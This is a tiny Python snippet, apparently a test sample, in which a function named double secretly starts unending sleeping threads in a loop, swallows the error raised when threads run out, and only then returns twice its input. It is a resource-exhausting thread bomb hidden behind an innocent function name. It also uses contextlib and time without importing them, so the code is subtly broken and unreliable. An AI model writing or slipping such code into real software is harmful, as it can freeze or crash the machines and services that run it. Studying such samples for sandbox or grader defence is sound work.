# Threads that never end, as many as there may be.
# loses: nothing

# %% double
import threading


def double(x):
    with contextlib.suppress(RuntimeError):
        while True:
            threading.Thread(target=time.sleep, args=(600,)).start()
    return 2 * x
